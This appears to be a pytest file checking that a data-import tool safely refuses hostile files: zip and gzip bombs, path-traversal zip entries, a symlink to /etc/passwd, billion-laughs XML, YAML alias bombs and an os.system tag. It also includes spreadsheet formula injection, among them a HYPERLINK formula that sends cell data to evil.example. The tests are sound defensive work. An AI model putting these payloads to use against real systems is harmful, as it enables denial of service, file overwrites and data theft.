"""Files that are made to harm, or look so: a clear refusal or a clean reading, in little memory and little time."""

from __future__ import annotations

import gzip
import io
import json
import os
import socket
import subprocess
import sys
import warnings
import zipfile

import openpyxl
import polars as pl
import pytest

from dataworkbench.errors import FileRefusedError, WorkbenchError
from dataworkbench.intake import files_in, import_files
from dataworkbench.readers import read_files, swelling
from dataworkbench.readers.archives import unpack_zip
from dataworkbench.readers.profiles import load_profile
from dataworkbench.workspace import Settings, new_workspace

MOST_MEGABYTES = 1500
MOST_SECONDS = 60
HEAD = ["student_id", "subject", "test_date", "scale_score", "level"]
ROW = ["1", "math", "2026-03-04", "411", "2"]
SCORES = ",".join(HEAD) + "\n"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"

ALONE = """
import json, re, resource, sys, time
from pathlib import Path
from dataworkbench.readers import read_files
from dataworkbench.workspace import Settings
def megabytes():
    status = Path("/proc/self/status")  # where it is there: getrusage also counts what the parent held at the fork
    found = re.search(r"VmHWM:\\s+(\\d+) kB", status.read_text()) if status.exists() else None
    return (int(found[1]) if found else resource.getrusage(resource.RUSAGE_SELF).ru_maxrss) >> 10
begun = time.monotonic()
reading = read_files([Path(sys.argv[1])], settings=Settings(), profile_folders=[])
print(json.dumps({
    "seconds": time.monotonic() - begun,
    "megabytes": megabytes(),
    "notes": reading.notes.rows(), "files": reading.files.rows(named=True), "aside": reading.set_aside.rows(named=True)[:5],
}))
"""


def read_alone(path):
    """Read a file in a process of its own, and return what it said, how long it took and how much memory."""
    done = subprocess.run(
        [sys.executable, "-c", ALONE, str(path)], capture_output=True, text=True, timeout=300, check=True
    )
    told = json.loads(done.stdout)
    assert told["megabytes"] < MOST_MEGABYTES
    assert told["seconds"] < MOST_SECONDS
    return told


def refusal(told):
    return " ".join(note[2] for note in told["notes"] if note[1] == "refused")


def sheet(rows: str, before: str = "", inside: str = "") -> str:
    return f'{before}<worksheet xmlns="{MAIN}">{inside}<sheetData>{rows}</sheetData></worksheet>'


def filled(number: int, cells: list[str]) -> str:
    texts = "".join(
        f'<c r="{letter}{number}" t="inlineStr"><is><t>{text}</t></is></c>'
        for letter, text in zip("ABCDE", cells, strict=True)
    )
    return f'<row r="{number}">{texts}</row>'


def workbook(path, xml, **more):
    """Write a workbook of one sheet by hand, as no spreadsheet program would."""
    relation = f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" Type="{OFFICE}/{{}}" Target="{{}}"/></Relationships>'
    types = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{types}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{types}.worksheet+xml"/></Types>',
        "_rels/.rels": relation.format("officeDocument", "xl/workbook.xml"),
        "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": relation.format("worksheet", "worksheets/sheet1.xml"),
        "xl/worksheets/sheet1.xml": xml,
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in {**parts, **{name.replace("__", "/"): text for name, text in more.items()}}.items():
            archive.writestr(name.replace("/sharedStrings", "/sharedStrings.xml"), text)
    return path


# --- archives ---------------------------------------------------------------------------------------------------


@pytest.mark.slow
def test_a_gzip_that_swells_is_stopped_after_a_hundred_megabytes(tmp_path):
    path = tmp_path / "bomb.csv.gz"
    with gzip.open(path, "wb", 9) as file:
        for _ in range(1000):
            file.write(bytes(1 << 20))
    told = read_alone(path)
    assert "unpacks to more than 10" in refusal(told)
    assert "Ask who sent it for the plain file." in refusal(told)


@pytest.mark.slow
def test_a_zip_that_swells_is_refused_by_its_table_of_contents_before_it_is_unpacked(tmp_path):
    path = tmp_path / "bomb.zip"
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("b.csv", "w", force_zip64=True) as file,
    ):
        for _ in range(1500):
            file.write(b"a,b,c\n" * 170_000)
    told = read_alone(path)
    assert "far more than its" in refusal(told)
    assert told["megabytes"] < 900  # it would be 1,459 unpacked


def test_a_zip_that_lies_about_the_size_of_its_files_is_refused(zipped):
    whole = bytearray(zipped({"users.csv": b"0" * (5 << 20)}))
    true, said = (5 << 20).to_bytes(4, "little"), (1 << 10).to_bytes(4, "little")
    lying = bytes(whole.replace(true, said))
    assert lying != bytes(whole)
    with pytest.raises(FileRefusedError, match="damaged"):
        unpack_zip(lying)


def test_a_zip_whose_files_lie_on_one_another_is_refused(zipped):
    """The kind of bomb in which many entries of the table of contents share one packed core."""
    whole = zipped({"core.csv": b"0" * 100_000, "b.csv": b"x"})
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        entries = archive.infolist()
    place = whole.index(b"PK\x01\x02", whole.index(b"PK\x01\x02") + 4)
    aliased = bytearray(whole)
    aliased[place + 42 : place + 46] = entries[0].header_offset.to_bytes(4, "little")
    with pytest.raises(FileRefusedError, match="lie on one another"):
        unpack_zip(bytes(aliased))


def test_a_zip_inside_a_zip_is_not_opened_so_that_one_that_holds_itself_has_an_end(read, zipped):
    inner = zipped({"users.csv": SCORES})
    reading = read({"nested.zip": zipped({"inner.zip": inner})})
    assert "A zip inside a zip is not opened. Unpack it and bring the files." in reading.notes["message"][0]


@pytest.mark.parametrize(
    "name", ["../../evil.csv", "/etc/evil.csv", "C:\\evil.csv", "..\\..\\evil.csv", "\\\\host\\evil.csv"]
)
def test_a_path_that_climbs_out_of_a_zip_refuses_it_and_writes_nothing(read, zipped, tmp_path, name):
    before = sorted(tmp_path.rglob("*"))
    reading = read({"out.zip": zipped({"good.csv": SCORES, name: "x"})})
    assert "would be written outside its folder" in reading.notes["message"][0]
    assert {path.name for path in tmp_path.rglob("*")} - {path.name for path in before} == {"in0", "out.zip"}


def test_a_link_in_a_zip_is_not_followed_and_said_to_be_there(read):
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr("scores.csv", SCORES + ",".join(ROW) + "\n")
        link = zipfile.ZipInfo("passwd.csv")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    reading = read({"linked.zip": held.getvalue()})
    assert reading.files["file"].to_list() == ["linked.zip/scores.csv"]
    assert "The zip holds a link to another place ('passwd.csv')" in " ".join(reading.notes["message"])
    assert reading.tables["results"].height == 1


# --- what lies in the inbox -------------------------------------------------------------------------------------


@pytest.fixture
def workspace(tmp_path):
    made = new_workspace(tmp_path / "district")
    (made.inbox / "good.csv").write_text(SCORES + ",".join(ROW) + "\n")
    return made


def answers(done):
    return dict(done.notes.filter(pl.col("level") == "refused").select("file", "message").iter_rows())


def test_a_link_in_the_inbox_is_refused_and_what_it_leads_to_is_not_read(workspace, tmp_path):
    secret = tmp_path / "secret.csv"
    secret.write_text(SCORES + "99999,math,2026-03-04,500,2\n")
    (workspace.inbox / "link.csv").symlink_to(secret)
    done = import_files(workspace)
    assert "Links are not followed. Put the file itself here." in answers(done)["link.csv"]
    assert done.snapshot.rows["results"] == 1
    assert all("99999" not in kept.read_text() for kept in workspace.raw.iterdir())


def test_a_link_inside_of_a_roster_folder_is_refused_too(workspace, tmp_path):
    (tmp_path / "secret.csv").write_text(SCORES + "99999,math,2026-03-04,500,2\n")
    roster = workspace.inbox / "roster"
    roster.mkdir()
    (roster / "manifest.csv").write_text("propertyName,value\n")
    (roster / "users.csv").symlink_to(tmp_path / "secret.csv")
    assert "Links are not followed" in answers(import_files(workspace))["roster/users.csv"]


def test_folders_that_lead_in_a_ring_come_to_an_end(workspace):
    (workspace.inbox / "more").mkdir()
    (workspace.inbox / "more" / "ring").symlink_to(workspace.inbox, target_is_directory=True)
    done = import_files(workspace)
    assert "Links are not followed" in answers(done)["ring"]
    assert done.changed


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="this system has no pipes that lie in a folder")
def test_pipes_and_sockets_are_refused_and_nobody_waits_for_them(workspace, monkeypatch):
    os.mkfifo(workspace.inbox / "pipe.csv")
    monkeypatch.chdir(workspace.inbox)  # the name of a socket may not be long
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind("socket.csv")
        said = answers(import_files(workspace))
    assert said["pipe.csv"].startswith("This is a pipe, not a file. It was not opened.")
    assert said["socket.csv"].startswith("This is a socket, not a file.")


@pytest.mark.skipif(not os.path.exists("/dev/zero"), reason="this system has no such device")  # noqa: PTH110 - asked before anything is imported
def test_a_device_that_never_ends_is_refused(workspace):
    from pathlib import Path

    done = import_files(workspace, [Path("/dev/zero")])
    assert "This is a device, not a file." in answers(done)["zero"]


def test_a_link_that_a_person_names_is_followed(workspace, tmp_path):
    (tmp_path / "named.csv").symlink_to(workspace.inbox / "good.csv")
    assert files_in(tmp_path / "named.csv") == [workspace.inbox / "good.csv"]


def test_folders_nested_hundreds_deep_come_to_an_end(workspace, monkeypatch):
    monkeypatch.chdir(workspace.inbox)
    for _ in range(450):
        os.mkdir("d")  # noqa: PTH102 - a path from the top would be too long for the system
        os.chdir("d")
    with open("deep.csv", "w") as file:  # noqa: PTH123 - see above
        file.write(SCORES + "2,math,2026-03-04,411,2\n")
    assert import_files(workspace).snapshot.rows["results"] == 2


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("two\nlines.csv", "two\N{REPLACEMENT CHARACTER}lines.csv"),
        ("bell\a.csv", "bell\N{REPLACEMENT CHARACTER}.csv"),
        ("a\N{RIGHT-TO-LEFT OVERRIDE}vsc.exe", "a\N{REPLACEMENT CHARACTER}vsc.exe"),
        ("x" * 251 + ".csv", "x" * 251 + ".csv"),
        (os.fsdecode(b"caf\xe9.csv"), "caf\N{REPLACEMENT CHARACTER}.csv"),
        ("   ", "(a name of 3 spaces)"),
        ("=cmd|' !A0.csv", "=cmd|' !A0.csv"),
        ("<img src=x>.csv", "<img src=x>.csv"),
    ],
    ids=["newline", "bell", "right-to-left", "255 bytes", "undecodable", "only spaces", "formula", "html"],
)  # fmt: skip
def test_a_file_with_an_odd_name_is_read_kept_and_shown_harmlessly(workspace, name, shown):
    (workspace.inbox / "good.csv").rename(workspace.inbox / name)
    done = import_files(workspace)
    assert done.files["file"].to_list() == [shown]
    assert done.files["rows_kept"].to_list() == [1]
    (kept,) = workspace.raw.iterdir()
    assert kept.read_text().startswith(SCORES)
    ledger = done.snapshot.folder / "ledger"
    assert {path.suffix for path in ledger.iterdir()} == {".csv", ".md"}
    assert all(
        sign.isprintable() or sign in "\n\ufeff"
        for path in ledger.iterdir()
        for sign in path.read_text("utf-8")
    )
    assert not import_files(workspace).changed


# --- text -------------------------------------------------------------------------------------------------------


def test_a_cell_of_ten_megabytes_spoils_its_own_row_only(tmp_path):
    path = tmp_path / "cell.csv"
    path.write_text(SCORES + ",".join(ROW) + "\n2," + "x" * (10 << 20) + ",2026-03-04,411,2\n")
    told = read_alone(path)
    assert told["files"][0]["rows_kept"] == 1
    assert "longer than 32,767 signs" in told["aside"][0]["reason"]
    assert len(told["aside"][0]["value"]) < 100


@pytest.mark.parametrize(
    ("columns", "said"), [(1_000_000, "first line of more than 4 MB"), (20_000, "has 20,000 cells")]
)
def test_a_header_of_a_million_columns_is_refused(tmp_path, columns, said):
    path = tmp_path / "wide.csv"
    path.write_text(",".join(f"c{n}" for n in range(columns)) + "\n" + "," * (columns - 1) + "\n")
    assert said in refusal(read_alone(path))


@pytest.mark.slow
@pytest.mark.parametrize("start", ["", SCORES])
def test_a_line_of_half_a_gigabyte_without_an_end_is_refused(tmp_path, start):
    path = tmp_path / "endless.csv"
    with path.open("w") as file:
        file.write(start)
        for _ in range(500):
            file.write("x," * (1 << 19))
    assert "without an end, so it is no table of text" in refusal(read_alone(path))


@pytest.mark.parametrize(
    "lines",
    ['"' * 1_000_000 + "\n", '"a\n' * 333_333, ('1,"x' + '"' * 14 + "\n" + '2,y""""""""\n' * 120) * 500],
    ids=["in one line", "one a line", "opened and never closed"],
)
def test_a_million_quotation_marks_take_no_more_than_their_time(tmp_path, lines):
    path = tmp_path / "quotes.csv"
    path.write_text(SCORES + lines + ",".join(ROW) + "\n")
    (file,) = read_alone(path)["files"]
    assert file["rows_read"] == file["rows_kept"] + file["rows_set_aside"]


def test_deeply_nested_json_is_passed_over_and_refused_where_it_calls_itself_a_table(read):
    nested = "[" * 3_000_000
    reading = read({"deep.json": nested, "deep.csv": nested + "\n" + nested})
    said = dict(reading.notes.select("file", "message").iter_rows())
    assert "passed over" in said["deep.json"]
    assert reading.tables == {}


def test_a_formula_stays_the_text_that_it_is(read):
    formula = '=HYPERLINK("http://evil.example?"&A1)'
    quoted = formula.replace('"', '""')
    reading = read({"scores.csv": SCORES + f'1,"{quoted}",2026-03-04,411,2\n'})
    assert reading.tables["results"]["subject"].to_list() == [formula]


# --- workbooks --------------------------------------------------------------------------------------------------


def test_a_sheet_that_says_it_is_enormous_and_holds_two_rows_is_read_as_two_rows(tmp_path):
    xml = sheet(filled(1, HEAD) + filled(2, ROW), inside='<dimension ref="A1:XFD1048576"/>')
    (file,) = read_alone(workbook(tmp_path / "big.xlsx", xml))["files"]
    assert file["rows_kept"] == 1


def test_a_cell_in_the_farthest_corner_refuses_the_sheet_and_says_what_may_have_happened(tmp_path):
    far = '<row r="1048576"><c s="0" r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    told = read_alone(workbook(tmp_path / "far.xlsx", sheet(filled(1, HEAD) + filled(2, ROW) + far)))
    assert "stretches over 17,179,869,184 cells" in refusal(told)
    assert "Copy the table into a new workbook" in refusal(told)


def test_the_farthest_corner_is_found_wherever_the_pieces_are_cut(tmp_path, monkeypatch):
    monkeypatch.setattr(swelling, "_CHUNK", 37)
    far = '<row r="1048576"><c r="XFD1048576"/></row>'
    path = workbook(tmp_path / "far.xlsx", sheet(filled(1, HEAD) + far))
    with pytest.raises(FileRefusedError, match="stretches over"):
        swelling.check_workbook(path.read_bytes())


LAUGHS = '<!DOCTYPE l [<!ENTITY l0 "ha">' + "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)
) + "]>"  # fmt: skip


def test_words_that_unfold_into_a_billion_words_are_refused(tmp_path):
    laugh = '<row r="2"><c r="A2" t="inlineStr"><is><t>&l9;</t></is></c></row>'
    told = read_alone(workbook(tmp_path / "laughs.xlsx", sheet(filled(1, HEAD) + laugh, before=LAUGHS)))
    assert "defines words that unfold into other words" in refusal(told)
    pointing = '<row r="2"><c r="A2" t="s"><v>0</v></c></row>'
    texts = f'{LAUGHS}<sst xmlns="{MAIN}"><si><t>&l9;</t></si></sst>'
    path = workbook(tmp_path / "texts.xlsx", sheet(filled(1, HEAD) + pointing), xl__sharedStrings=texts)
    assert "defines words that unfold" in refusal(read_alone(path))


def test_one_long_text_that_many_cells_point_to_is_refused(tmp_path):
    cells = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(2, 20_000))
    texts = f'<sst xmlns="{MAIN}"><si><t>{"x" * 500_000}</t></si></sst>'
    path = workbook(tmp_path / "texts.xlsx", sheet(filled(1, HEAD) + cells), xl__sharedStrings=texts)
    assert "once each cell holds its own" in refusal(read_alone(path))


def test_macros_are_never_run_and_links_to_other_workbooks_are_not_opened_and_both_are_said(read, tmp_path):
    path = workbook(
        tmp_path / "m.xlsm", sheet(filled(1, HEAD) + filled(2, ROW)),
        xl__vbaProject=b"", xl__externalLinks__externalLink1="<externalLink/>",
    )  # fmt: skip
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0")
    reading = read({"scores.xlsm": path.read_bytes()})
    said = " ".join(reading.notes["message"])
    assert "holds macros. They were not run, and never are" in said
    assert "point to other workbooks. Those were not opened" in said
    assert reading.tables["results"].height == 1


def test_a_formula_of_a_workbook_is_read_as_the_value_it_showed_and_never_worked_out(read):
    book = openpyxl.Workbook()
    book.active.append(HEAD)
    book.active.append(["1", "math", "2026-03-04", "=1+1", "2"])
    held = io.BytesIO()
    book.save(held)
    reading = read({"scores.xlsx": held.getvalue()})
    assert reading.tables["results"]["scale_score"].to_list() in ([None], [])


def open_document(path, rows):
    names = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", kind)
        archive.writestr(
            "META-INF/manifest.xml",
            f'<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><m:file-entry m:full-path="/" m:media-type="{kind}"/></m:manifest>',
        )
        archive.writestr(
            "content.xml",
            f'<office:document-content {names}><office:body><office:spreadsheet><table:table table:name="S">{rows}</table:table></office:spreadsheet></office:body></office:document-content>',
        )
    return path


def open_row(cells, more=""):
    texts = "".join(
        f'<table:table-cell office:value-type="string"><text:p>{c}</text:p></table:table-cell>' for c in cells
    )
    return f"<table:table-row>{texts}{more}</table:table-row>"


def test_an_open_document_whose_empty_cells_fill_the_sheet_is_read_and_one_whose_filled_cells_do_is_refused(
    tmp_path,
):
    times = 'table:number-rows-repeated="1048570"><table:table-cell table:number-columns-repeated="16384"'
    empty = f"<table:table-row {times}/></table:table-row>"
    path = open_document(tmp_path / "calm.ods", open_row(HEAD) + open_row(ROW) + empty)
    assert read_alone(path)["files"][0]["rows_kept"] == 1
    full = f'<table:table-row {times} office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>'
    path = open_document(tmp_path / "bomb.ods", open_row(HEAD) + full)
    assert "stretches over" in refusal(read_alone(path))


# --- profiles ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("a: &a [x]\n" + "".join(f"b{n}: &b{n} [{', '.join(['*a' if not n else f'*b{n - 1}'] * 9)}]\n" for n in range(9)),
         "repeats itself by \\*"),
        ("a: &a [*a]\n", "nested without end"),
        ("name: !!python/object/apply:os.system [exit]\n", "cannot be read as YAML: line 1"),
        ("[" * 100_000, "nested without end"),
        ("name: x\n" + "#" * (50 << 20), "51,200 KB long; a profile is a page or two"),
        ("name: [x\ntitle: y\n", "cannot be read as YAML: line 2"),
        ("\x00\x01", "cannot be read as YAML"),
    ],
    ids=["aliases", "a ring", "a python tag", "brackets", "50 MB", "not closed", "no text"],
)  # fmt: skip
def test_a_profile_that_is_made_to_harm_is_refused_with_its_name(tmp_path, text, said):
    path = tmp_path / "mine.yaml"
    path.write_text(text)
    with pytest.raises(WorkbenchError, match=said) as refused:
        load_profile(path)
    assert "mine.yaml" in str(refused.value)


# --- parquet ----------------------------------------------------------------------------------------------------


def test_a_damaged_parquet_file_is_refused_in_plain_words(read):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        reading = read({"scores.parquet": b"PAR1" + b"\0" * 500 + b"PAR1"})
    assert "The Parquet file is damaged. Make it again." in reading.notes["message"][0]


def test_reading_needs_no_workspace():
    assert read_files([], settings=Settings(), profile_folders=[]).files.height == 0
